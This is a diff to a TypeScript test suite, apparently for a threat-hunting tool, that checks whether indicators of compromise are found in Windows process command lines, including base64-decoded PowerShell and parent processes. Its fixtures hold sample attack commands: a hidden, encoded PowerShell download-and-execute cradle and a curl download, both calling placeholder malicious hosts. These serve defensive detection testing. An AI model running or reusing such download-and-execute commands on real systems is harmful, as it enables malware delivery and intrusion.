@@ -93,6 +93,68 @@ describe('a sweep', () => {
     if (first !== '') expect(found).toContain(first)
   })
 
+  describe('of commands', () => {
+    const script = `$p = 'C:\\Users\\Public\\drop.dll'; IEX (New-Object Net.WebClient).DownloadString('http://cdn.bad.example/a?x=1') # 198.51.100.77`
+    const encoded = Buffer.from(script, 'utf16le').toString('base64')
+    let records = 100
+    const started = (more: Record<string, string>) =>
+      JSON.stringify({
+        ...(JSON.parse(windowsLines(1, 'ws09.corp.example')) as object),
+        RecordNumber: (records += 1),
+        ...more,
+      })
+    beforeEach(async () => {
+      await bench.import(
+        bench.file('parent.json', started({ ParentCommandLine: 'wscript.exe "C:\\Temp\\order 7.js" //B' })),
+        bench.file('encoded.json', started({ CommandLine: `powershell -w hidden -enc ${encoded}` })),
+        bench.file(
+          'child.json',
+          started({
+            CommandLine: 'whoami',
+            ParentCommandLine: `powershell -w hidden -enc ${encoded}`,
+          }),
+        ),
+        bench.file('plain.json', started({ CommandLine: 'curl -o x http://plain.bad.example:8080/b' })),
+      )
+      await bench.client.run('correlation.run', {})
+    })
+    const decoded = `${script}: process.command_line.decoded @ WS09`
+    const ofParent = `${script}: process.parent.command_line.decoded @ WS09`
+    const plain = 'curl -o x http://plain.bad.example:8080/b: process.command_line @ WS09'
+
+    it.each([
+      ['cdn.bad.example', [decoded, ofParent]],
+      ['bad.example', [decoded, ofParent, plain]],
+      ['hxxp://cdn[.]bad[.]example/a?x=1', [decoded, ofParent]],
+      ['198.51.100.0/24', [decoded, ofParent]],
+      ['file-name:drop.dll', [decoded, ofParent]],
+      ['file-path:C:\\Users\\Public\\', [decoded, ofParent]],
+      ['command-line~downloadstring', [decoded, ofParent]],
+      [
+        'file-name:order 7.js',
+        ['wscript.exe "C:\\Temp\\order 7.js" //B: process.parent.command_line @ WS09'],
+      ],
+      [
+        'command-line~order 7',
+        ['wscript.exe "C:\\Temp\\order 7.js" //B: process.parent.command_line @ WS09'],
+      ],
+      ['plain.bad.example', [plain]],
+      ['domain:drop.dll', []],
+      ['198.51.100.7', []],
+    ])('finds %s in them, in those of parents, and in what they decode to', async (text, wanted) => {
+      expect((await sightings(text)).sort()).toEqual(wanted.toSorted())
+    })
+
+    it('shows what was found also at the end of a long command', async () => {
+      const long = `powershell ${'-x 1 '.repeat(200)} http://far.bad.example/z`
+      await bench.import(bench.file('long.json', started({ CommandLine: long })))
+      await bench.client.run('correlation.run', {})
+      const [found] = await sightings('far.bad.example')
+      expect(found).toMatch(/^….*http:\/\/far\.bad\.example\/z: process\.command_line @ WS09$/)
+      expect(found?.length).toBeLessThan(340)
+    })
+  })
+
   it('counts a record once, however many of its fields speak of an indicator', async () => {
     expect(await sightings('domain:evil.example')).toHaveLength(1)
   })
